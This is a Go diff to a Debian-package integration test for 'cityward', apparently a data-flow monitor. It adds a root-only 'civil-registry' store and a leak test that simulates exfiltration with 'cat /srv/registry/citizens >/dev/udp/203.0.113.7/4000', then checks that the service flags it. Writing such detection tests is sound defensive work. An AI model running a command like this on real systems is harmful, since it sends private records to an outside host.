@@ -1,6 +1,7 @@
 package packaging_test
 
 import (
+	"bytes"
 	"encoding/json"
 	"net/http"
 	"os"
@@ -14,6 +15,8 @@ import (
 const (
 	config = "/etc/cityward/cityward.toml"
 	pins   = "/sys/fs/bpf/cityward"
+
+	sentOutside = `cityward_data_store_sent_bytes_total{how="direct",peer_zone="outside",store="civil-registry"}`
 )
 
 // The life of the Debian package on a machine, from installation to purge. Each
@@ -30,10 +33,12 @@ func TestDebianPackageLife(t *testing.T) {
 	m.captures(t)
 	m.confined(t)
 	m.owns(t)
+	m.declares(t)
 	m.seesLikeRoot(t)
 	m.reloads(t)
 	m.restartsAfterKill(t)
 	m.keepsCapture(t)
+	m.findsALeak(t)
 	m.upgrades(t)
 	m.quietJournal(t)
 	m.removes(t)
@@ -140,11 +145,18 @@ func (m *machine) seesLikeRoot(t *testing.T) {
 		t.Fatalf("no cityward_gaps in:\n%s", page)
 	}
 	for _, gap := range gaps {
-		if gap[1] == "flows" { // what others do on this kernel shows in both, at different times; see captures
-			continue
+		kind := gap[1]
+		count, err := strconv.Atoi(gap[2])
+		if err != nil {
+			t.Fatal(err)
 		}
-		if kind, count := gap[1], gap[2]; count != strconv.Itoa(root[kind]) {
-			t.Errorf("the service has %s gaps in %s, root has %d", count, kind, root[kind])
+		// What others do on this kernel shows in both, at different times: flows of
+		// theirs, see captures, and one gap where their programs are not known.
+		if kind == "processes" {
+			count = min(count, root[kind])
+		}
+		if count != root[kind] && kind != "flows" {
+			t.Errorf("the service has %d gaps in %s, root has %d", count, kind, root[kind])
 		}
 	}
 }
@@ -212,6 +224,47 @@ func (m *machine) keepsCapture(t *testing.T) {
 	})
 	if now := table(); now != before {
 		t.Errorf("the table of flows is %s, was %s: the capture began anew", now, before)
+	}
+}
+
+// declares a store that only root may read, to those that must not be blind to it.
+func (m *machine) declares(t *testing.T) {
+	t.Helper()
+	sound, err := os.ReadFile(filepath.Join(m.root, config))
+	if err != nil {
+		t.Fatal(err)
+	}
+	m.run(t, "sh", "-c", "umask 077; mkdir /srv/registry; echo 'a line of the registry' >/srv/registry/citizens")
+	const none = "networks = []\n"
+	if !bytes.Contains(sound, []byte(none)) {
+		t.Fatalf("the shipped configuration has no %q", none)
+	}
+	sound = bytes.Replace(sound, []byte(none), []byte("networks = [\"10.77.0.0/16\"]\n"), 1)
+	m.writeConfig(t, append(sound, []byte(`
+[[data_store]]
+id = "civil-registry"
+class = "citizen"
+paths = ["/srv/registry"]
+`)...))
+	m.run(t, "systemctl", "reload", "cityward")
+	m.wantMetric(t, sentOutside+" 0")
+}
+
+// findsALeak: without root's rights the service tells who took a store's data beyond
+// the city. Nobody answers there.
+func (m *machine) findsALeak(t *testing.T) {
+	t.Helper()
+	command(t, "nsenter", "-t", m.leader, "-n", "ip", "link", "add", "city0", "type", "veth", "peer", "name", "far0")
+	command(t, "nsenter", "-t", m.leader, "-n", "ip", "address", "add", "203.0.113.1/24", "dev", "city0")
+	command(t, "nsenter", "-t", m.leader, "-n", "ip", "link", "set", "city0", "up")
+	m.run(t, "systemd-run", "--quiet", "--wait", "--unit=night-copy", "bash", "-c", "cat /srv/registry/citizens >/dev/udp/203.0.113.7/4000")
+	m.wantMetric(t, sentOutside+" 23")
+	findings := m.run(t, "cityward", "findings")
+	_, way, _ := strings.Cut(findings, "NET-001")
+	for _, want := range []string{"critical, fail", "/usr/bin/cat, user root, unit night-copy.service: direct, opened citizens", "civil-registry → /usr/bin/cat → 203.0.113.7:4000", "sent bytes: 23"} {
+		if !strings.Contains(way, want) {
+			t.Errorf("no %q in:\n%s", want, findings)
+		}
 	}
 }
 
